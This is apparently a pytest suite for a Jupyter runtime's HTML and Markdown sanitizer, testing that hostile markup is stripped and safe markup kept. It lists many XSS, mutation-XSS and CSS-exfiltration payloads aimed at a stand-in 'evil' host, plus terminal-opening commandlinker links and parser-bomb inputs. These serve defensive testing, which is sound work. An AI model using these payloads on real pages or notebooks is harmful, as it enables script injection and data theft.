"""HTML of a guest: what hostile inputs become, and what good ones keep."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kernel_runtime.jupyter.page_hosts import Page
from kernel_runtime.jupyter.page_html import CONTAINED, clean_fragment, clean_html, clean_markdown
from kernel_runtime.jupyter.page_text import note

_ADDRESSES = frozenset(
    {"src", "href", "action", "formaction", "poster", "data", "background", "srcset", "ping", "xlink:href"}
)


class Seen(HTMLParser):
    """Collects what a page could run or call, outside of frames (their documents are attributes)."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.trouble: list[str] = []
        self._in_style = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._in_style = tag == "style"
        if tag in (
            "script",
            "object",
            "embed",
            "base",
            "meta",
            "link",
            "form",
            "input",
            "button",
            "math",
            "foreignobject",
            "animate",
            "set",
        ):
            self.trouble.append(tag)
        for name, value in attrs:
            value = value or ""
            if name.startswith(("on", "data-")) or name in (
                "srcset",
                "action",
                "formaction",
                "ping",
                "poster",
                "background",
            ):
                self.trouble.append(f"{tag} {name}")
            if name in _ADDRESSES and not re.match(
                r"#|mailto:|data:(image/(png|jpe?g|gif|webp|bmp|avif)|video/|audio/)", value
            ):
                self.trouble.append(f"{tag} {name}={value}")
            if name == "style":
                self.look_at_css(value)
            if tag == "iframe" and name == "sandbox" and value != "allow-scripts":
                self.trouble.append(f"sandbox {value}")
        if tag == "iframe" and ("sandbox", "allow-scripts") not in attrs:
            self.trouble.append("iframe without sandbox")

    def handle_data(self, data):
        if self._in_style:
            self.look_at_css(data)

    def handle_endtag(self, tag):
        self._in_style = False

    def look_at_css(self, text):
        for word in (
            "@import",
            "expression",
            "fixed",
            "sticky",
            "javascript:",
            "-moz-binding",
            "behavior",
            ":visited",
        ):
            if word in text.lower():
                self.trouble.append(f"css {word}")
        for address in re.findall(r"url\(([^)]*)\)", text, re.IGNORECASE):
            if not re.match(r"[\"']?(#|data:image/(?!svg))", address):
                self.trouble.append(f"css {address}")


def trouble(text: str) -> list[str]:
    return Seen(text).trouble


HOSTILE = [
    "<script>x()</script>",
    "<ScRiPt src=//evil/x.js></ScRiPt>",
    "<script\n>x()</script\n>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<img src=x onerror=x()>",
    "<img/src=x/onerror=x()>",
    "<img src='x' onerror='x()'//>",
    "<IMG SRC=\"jav\tascript:x()\">",
    "<img src=`x` onerror=x()>",
    "<img srcset='http://evil/1 1x'>",
    "<img src=//evil/p.png>",
    "<img src=\\\\evil\\p.png>",
    "<img src='data:image/svg+xml,<svg onload=x()>'>",
    "<img lowsrc=http://evil/ dynsrc=http://evil/>",
    "<body onload=x()>",
    "<body background=http://evil/>",
    "<table background=http://evil/><td background=http://evil/>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><script xlink:href=data:,x() /></svg>",
    "<svg><animate attributeName=href values=javascript:x() /><a id=x><rect/></a></svg>",
    "<svg><set attributeName=onmouseover to=x() /></svg>",
    "<svg><use href='http://evil/x.svg#a'/><use xlink:href='data:image/svg+xml,x#a'/></svg>",
    "<svg><image href='http://evil/p.png'/><feImage href='http://evil/p.png'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>x()</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:x()'><text>t</text></a></svg>",
    "<svg><path fill='url(http://evil/)' clip-path='url(//evil/#a)'/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=x()>\">",
    "<svg><title><style><img src=1 onerror=x()></style></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=x()&gt;\">",
    "<math href=javascript:x()>CLICK</math><math><mi xlink:href=http://evil/>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>x()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title=\"</noscript><img src=x onerror=x()>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=x()>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=x()>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=x()>\">",
    "<template><script>x()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=x()></template>",
    "<iframe src=javascript:x()></iframe>",
    "<iframe src=http://evil/></iframe>",
    "<iframe srcdoc='<script>parent.x()</script>' sandbox='allow-same-origin allow-scripts'></iframe>",
    "<iframe sandbox='allow-top-navigation' srcdoc='&lt;b&gt;x&lt;/b&gt;'></iframe>",
    "<frameset><frame src=http://evil/></frameset>",
    "<object data=http://evil/></object><embed src=http://evil/>",
    "<applet code=x></applet>",
    "<base href=http://evil/><a href=x>y</a><img src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil/'>",
    "<link rel=stylesheet href=http://evil/><link rel=preconnect href=http://evil/>",
    "<link rel=dns-prefetch href=//leak.evil/>",
    "<form action=http://evil/><input name=a><button formaction=javascript:x()>b</button></form>",
    "<input type=image src=http://evil/ onfocus=x() autofocus>",
    "<video src=http://evil/ poster=http://evil/><source src=http://evil/ onerror=x()></video>",
    "<audio src=http://evil/ onloadstart=x()></audio><track src=http://evil/>",
    "<details open ontoggle=x()>",
    "<marquee onstart=x()>", "<select autofocus onfocus=x()>", "<keygen autofocus onfocus=x()>",
    "<a href=javascript:x()>l</a>",
    "<a href=' \x01javascript:x()'>l</a>",
    "<a href='java&#10;script:x()'>l</a>",
    "<a href='&#x6A;avascript:x()'>l</a>",
    "<a href='vbscript:x()'>l</a><a href='data:text/html,<script>x()</script>'>l</a>",
    "<a href=http://evil/ ping=http://evil/>l</a>",
    "<a href=//evil/>l</a>", "<a href=/api/shutdown>l</a>", "<a href='../lab?reset'>l</a>",
    "<button data-commandlinker-command=terminal:create-new data-commandlinker-args='{}'>b</button>",
    "<a data-commandlinker-command=terminal:create-new href=#>b</a>",
    "<div style='background:url(http://evil/)'>",
    "<div style='background:ur\\6c(http://evil/)'>",
    "<div style='background:u\\72l(\"//evil/\")'>",
    "<div style='background:image-set(\"http://evil/\" 1x)'>",
    "<div style='width:expression(x())'>", "<div style='behavior:url(x.htc)'>", "<div style='-moz-binding:url(x)'>",
    "<div style='position:fixed;inset:0;z-index:99999'>",
    "<div style='position:STICKY;top:0'>", "<div style='position:/**/fixed'>", "<div style='p\\6fsition:fixed'>",
    "<div style='--x:url(http://evil/);background:var(--x)'>",
    "<div style='list-style:url(http://evil/);cursor:url(http://evil/),auto;content:url(http://evil/)'>",
    "<style>@import 'http://evil/';@import url(http://evil/);</style>",
    "<style>@font-face{font-family:f;src:url(http://evil/)}*{font-family:f}</style>",
    "<style>input[value^=a]{background:url(http://evil/a)}</style>",
    "<style>a:visited{background:url(http://evil/)}</style>",
    "<style>@media screen{@import 'http://evil/';b{background:url(http://evil/)}}</style>",
    "<style>b{color:red;}</style><style></style ><img src=x onerror=x()></style>",
    "<style><!--</style><img src=x onerror=x()>--></style>",
    "<style>b::before{content:'</style><img src=x onerror=x()>'}</style>",
    "<style>@namespace url(http://evil/);@charset 'utf-7';@page{background:url(http://evil/)}</style>",
    "<style>b{background:url(http://evil/", "<style>b{background:url('http://evil/\n')}</style>",
    "<!--[if gte IE 4]><script>x()</script><![endif]-->", "<!--><img src=x onerror=x()>-->", "<![CDATA[><script>x()</script>]]>",
    "<?xml-stylesheet href='javascript:x()'?>", "<x onclick=x()>y</x>", "<a\x00href=javascript:x()>l</a>", "<<script>x()//<</script>",
    "\x3cscript\x3ex()\x3c/script\x3e", "<p title='\"><script>x()</script>'>", "<b title=\"a\" b=\"<style data-mark=x>\">",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_runs_and_calls_nothing(text):
    for cleaned in (
        clean_html(text),
        clean_html(f"<div>{text}"),
        clean_fragment(text),
        clean_markdown(f"a\n\n{text}"),
    ):
        assert trouble(cleaned) == []
        assert trouble(clean_html(cleaned)) == []


@pytest.mark.parametrize("text", [
    "[l](javascript:x())", "[l](<javascript:x()>)", "[l]: javascript:x()\n[l]", "![i](http://evil/?q)", "![i](//evil/)",
    "[l](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:x()>", "![\"onerror=x()](x)", "[a](x \"t\" onclick=x())",
    "```html\n<script>x()</script>\n```", "`<script>x()</script>`", "| a |\n|---|\n| <img src=x onerror=x()> |",
    "$$<img src=x onerror=x()>$$", "$<script>x()</script>$", "<div markdown=1 onclick=x()>\n\n*a*\n\n</div>", "&lt;script&gt;x()&lt;/script&gt;",
    "[^1]\n\n[^1]: <img src=x onerror=x()>", "- [ ] <script>x()</script>",
])  # fmt: skip
def test_hostile_markdown(text):
    assert trouble(clean_markdown(text)) == []


@given(st.text(alphabet=st.sampled_from("<>/\"'=`!-&; \n\\abosvgimtyleu:()#{}@.x"), max_size=80))
@settings(max_examples=300, deadline=None)
def test_no_text_becomes_script(text):
    assert trouble(clean_html(text)) == []


_PIECES = [
    "<svg>", "</svg>", "<math>", "<style>", "</style>", "<mtext>", "<table>", "<mglyph>", "<p>", "</p>", "<title>",
    "<iframe srcdoc='", "'>", "\">", "<img src=x onerror=x()>", "<a title=\"", "<script>", "</script>", "<!--", "-->",
    "<noscript>", "<textarea>", "<select>", "<b style='background:url(http://e/)", "<foreignObject>", "<desc>",
    "b{background:url(http://e)}", "<form>", "&lt;", "&quot;", "<li>", "<td>", "<br/>", "<use href=http://e/>", "x",
]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=14))
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_markup_becomes_script(pieces):
    cleaned = clean_html("".join(pieces))
    assert "data-mark" not in cleaned
    assert trouble(cleaned) == []
    assert trouble(clean_html(cleaned)) == []


GOOD = [
    ("<b>bold</b> & <i>it</i>", "<b>bold</b> &amp; <i>it</i>"),
    ("<table><thead><tr><th colspan=\"2\">h</th></tr></thead></table>",
     "<table><thead><tr><th colspan=\"2\">h</th></tr></thead></table>"),
    ("<img src=\"data:image/png;base64,AAAA\" width=\"20\">", "<img src=\"data:image/png;base64,AAAA\" width=\"20\">"),
    ("<video controls=\"\"><source type=\"video/mp4\" src=\"data:video/mp4;base64,AAAA\"></video>",
     "<video controls=\"\"><source type=\"video/mp4\" src=\"data:video/mp4;base64,AAAA\"></video>"),
    ("<a href=\"mailto:a@b.c\">m</a>", "<a href=\"mailto:a@b.c\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>"),
    ("<progress value=\"3\" max=\"10\"></progress>", "<progress value=\"3\" max=\"10\"></progress>"),
    ("<details open=\"\"><summary>s</summary>t</details>", "<details open=\"\"><summary>s</summary>t</details>"),
    ("$x^2$ and \\(y\\)", "$x^2$ and \\(y\\)"),
    ("C:\\url\\data", "C:\\url\\data"),
    ("<div style=\"color: red; width: 10px !important\">a</div>",
     f"<div style=\"{CONTAINED}\"><div class=\"SCOPE\"><div style=\"color:red;width:10px !important\">a</div></div></div>"),
    ("<style>.a > b, #T_1:hover {color: red} :root {--c: 1px}</style><b class=\"a\" id=\"T_1\">x</b>",
     (f"<div style=\"{CONTAINED}\"><div class=\"SCOPE\"><style>.SCOPE .a > b,.SCOPE #kr-T_1:hover{{color:red}}\n"
     ".SCOPE{--c:1px}</style><b class=\"a\" id=\"kr-T_1\">x</b></div></div>")),
    ("<svg viewBox=\"0 0 1 1\"><defs><linearGradient id=\"g\"></linearGradient></defs><rect fill=\"url(#g)\"></rect></svg>",
     (f"<div style=\"{CONTAINED}\"><div class=\"SCOPE\"><svg viewBox=\"0 0 1 1\"><defs><linearGradient id=\"kr-g\">"
     "</linearGradient></defs><rect fill=\"url(#kr-g)\"></rect></svg></div></div>")),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), GOOD)
def test_good_html_is_kept(text, expected):
    assert re.sub(r"kr-[0-9a-f]{12}", "SCOPE", clean_html(text)) == expected


@pytest.mark.parametrize("selector", [
    "+ div", "~ *", "> *", "body + div", ":root ~ div", ":root:hover + x", "& + a", ":host(x)", "a:visited", "::slotted(a)",
])  # fmt: skip
def test_a_selector_cannot_reach_out(selector):
    assert "color" not in clean_html(f"<style>{selector} {{color: red}}</style>")


def test_links_and_pictures_are_of_granted_hosts():
    page = Page(frozenset({"ok.org", "*.tiles.org"}))
    text = (
        "<a href='https://ok.org/a'>1</a><a href='https://evil.org/?q=\"<b>'>2</a><img src='https://a.tiles.org/1.png'>"
        "<img src='https://tiles.org.evil/1.png' alt='A'><img src='https://ok.org@evil.org/'>"
    )
    cleaned = clean_html(text, page)
    assert '<a href="https://ok.org/a" target="_blank" rel="noopener noreferrer">1</a>' in cleaned
    assert '<a>[https://evil.org/?q="&lt;b&gt;] 2</a>' in cleaned.replace("&quot;", '"')
    assert '<img src="https://a.tiles.org/1.png">' in cleaned
    assert '<img alt="A"><small>[image not loaded: https://tiles.org.evil/1.png]</small>' in cleaned
    assert 'src="https://ok.org@' not in cleaned


@pytest.mark.parametrize("text", [
    r"$\href{javascript:x()}{y}$", r"\(\style{background:url(x)}{y}\)", r"$$\class{jp-Dialog}{y}$$", r"\[\cssId{x}{y}\]",
    r"$\require{html}$", r"$\data{commandlinker-command=x}{y}$", "$\\hr<wbr>ef{x}{y}$", "$&#92;href{x}{y}$",
    r"\begin{align}\url{http://evil/}\end{align}", r"$\mmlToken{mi}[href='http://e']{x}$",
])  # fmt: skip
def test_formulas_make_no_links_and_attributes(text):
    markdown = clean_markdown(text) if "$" in text else ""  # there \\( is an escaped parenthesis
    for cleaned in (clean_html(text), markdown, clean_fragment(text)):
        assert not re.search(r"\\(href|style|class|cssId|require|data|url|mmlToken)", cleaned)


@pytest.mark.parametrize("text", [
    "<div>" * 100_000,
    "<b>" * 50_000,
    "".join(f"<b id={n}>" for n in range(290)) + "<p>" * 100_000,
    "<table><tr><td>" * 40_000,
    "<style>" + "a{color:red}" * 400_000 + "</style>",
    "<style>" + "(" * 200_000 + "</style>",
    "<style>a{" + "{" * 100_000 + "</style>",
    "<b style='" + "(" * 100_000 + "'>",
    "<a title='" + "<" * 1_000_000,
    "<svg>" * 20_000,
    "x" * 17_000_000,
    "<!doctype html>" + "<script>" * 200_000,
    "<!-- " * 100_000,
])  # fmt: skip
def test_bombs_are_bounded_in_time(text):
    started = time.process_time()
    cleaned = clean_html(text)
    assert time.process_time() - started < 30
    assert len(cleaned) < 4 * len(text) + 10_000


def test_markdown_bombs_are_bounded_in_time():
    started = time.process_time()
    for bomb in (
        "[" * 60_000,
        "*a_ " * 16_000,
        "> " * 30_000,
        "x" * 10_000_000,
        "`" * 60_000,
        "[a](" * 15_000,
    ):
        assert isinstance(clean_markdown(bomb), str)
    assert time.process_time() - started < 90


def test_what_is_missing_is_said():
    assert "a script in this output was left out" in clean_html("<script>x()</script>")
    assert "image not loaded: http://evil/" in clean_html("<img src=http://evil/>")
    assert "deeper" in clean_html("<div>" * 1000)
    assert "<" not in note("<b>").removeprefix("<div").removesuffix("</div>").partition(">")[2]


def test_a_frame_is_sandboxed_twice_and_survives_a_second_pass():
    first = clean_html("<!DOCTYPE html><script>a<b</script>", height=10**9)
    assert first.count("sandbox=") == 2
    assert 'height="4000"' in first
    assert trouble(first) == []
    again = clean_html(first)
    document = re.search(r'srcdoc="([^"]*)"', first)[1].replace("&#x27;", "'")
    assert document == re.search(r'srcdoc="([^"]*)"', again)[1]
